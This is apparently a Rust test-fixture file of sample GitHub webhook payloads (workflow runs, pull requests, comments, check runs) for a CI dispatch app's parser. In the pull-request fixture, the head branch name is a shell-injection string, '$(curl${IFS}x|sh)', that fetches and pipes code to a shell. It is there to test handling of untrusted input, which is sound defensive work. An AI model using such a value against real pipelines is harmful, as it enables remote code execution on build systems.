//! Payloads for the tests, and what they are read as.

use serde_json::{Value, json};

use super::{Webhook, parse};
use crate::event::Event;

pub(super) const SHA: &str = "3484a3fb816e0859fd6e1cea078d76385ff50625";

pub(super) fn run_body() -> Value {
    json!({
        "action": "completed",
        "workflow_run": {
            "id": 30_433_642_000_u64, "run_number": 7, "run_attempt": 2, "path": ".github/workflows/ci.yml",
            "conclusion": "success", "event": "push", "head_branch": "main", "head_sha": SHA,
            "head_repository": { "id": 11, "full_name": "acme/api" }, "actor": null,
            "html_url": "https://github.com/acme/api/actions/runs/30433642000",
            "run_started_at": "2026-01-02T03:04:05Z", "updated_at": "2026-01-02T03:05:06Z",
            "head_commit": { "message": "what a stranger wrote" },
        },
        "repository": { "id": 11, "full_name": "acme/api", "default_branch": "main", "private": true },
        "installation": { "id": 5 },
        "sender": { "login": "octocat" },
    })
}

pub(super) fn with(mut body: Value, pointer: &str, value: Value) -> Value {
    *body.pointer_mut(pointer).unwrap() = value;
    body
}

pub(super) fn without(mut body: Value, parent: &str, key: &str) -> Value {
    body.pointer_mut(parent).unwrap().as_object_mut().unwrap().remove(key).unwrap();
    body
}

pub(super) fn event(name: &str, body: &Value) -> Event {
    match parse(name, body.to_string().as_bytes()).unwrap() {
        Webhook::Event(event) => *event,
        other => panic!("{other:?}"),
    }
}

pub(super) fn problem(event: &str, body: &str) -> String {
    parse(event, body.as_bytes()).unwrap_err().to_string()
}

/// A pull request was pushed to. Strangers wrote all over it.
pub(super) fn pull_request_body() -> Value {
    json!({
        "action": "synchronize",
        "number": 7,
        "pull_request": {
            "number": 7, "state": "open", "merged": false, "draft": false, "title": "a title", "body": "a body",
            "base": { "ref": "main", "sha": SHA, "repo": { "id": 11, "full_name": "acme/api" } },
            "head": {
                "ref": "$(curl${IFS}x|sh)", "sha": SHA, "label": "a label",
                "repo": { "id": 11, "full_name": "acme/api" },
            },
            "user": { "id": 21_031_067, "login": "octocat", "type": "User" },
            "labels": [{ "name": "bug" }],
            "updated_at": "2026-01-02T03:05:06Z",
        },
        "repository": { "id": 11, "full_name": "acme/api", "default_branch": "main", "private": true },
        "installation": { "id": 5 },
        "sender": { "id": 21_031_067, "login": "octocat", "type": "User" },
    })
}

/// Somebody wrote a command.
pub(super) fn comment_body() -> Value {
    json!({
        "action": "created",
        "issue": { "number": 7, "title": "a title", "pull_request": { "url": "https://api.github.com/x" } },
        "comment": {
            "id": 492_700_400_000_u64, "body": "/test-deploy\r\nplease", "created_at": "2026-01-02T03:05:06Z",
            "user": { "id": 21_031_067, "login": "octocat", "type": "User" }, "author_association": "OWNER",
            "performed_via_github_app": null,
        },
        "repository": { "id": 11, "full_name": "acme/api", "default_branch": "main", "private": true },
        "installation": { "id": 5 },
        "sender": { "id": 21_031_067, "login": "octocat", "type": "User" },
    })
}

/// Somebody wants a check run of this App again.
pub(super) fn check_run_body() -> Value {
    json!({
        "action": "rerequested",
        "check_run": {
            "id": 128_620_228_000_u64, "head_sha": SHA, "name": "a check", "status": "completed",
            "external_id": "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "app": { "id": 1, "slug": "dispatch" },
            "check_suite": { "id": 5, "updated_at": "2026-01-02T03:05:06Z" },
        },
        "repository": { "id": 11, "full_name": "acme/api", "default_branch": "main", "private": true },
        "installation": { "id": 5 },
        "sender": { "id": 21_031_067, "login": "octocat", "type": "User" },
    })
}
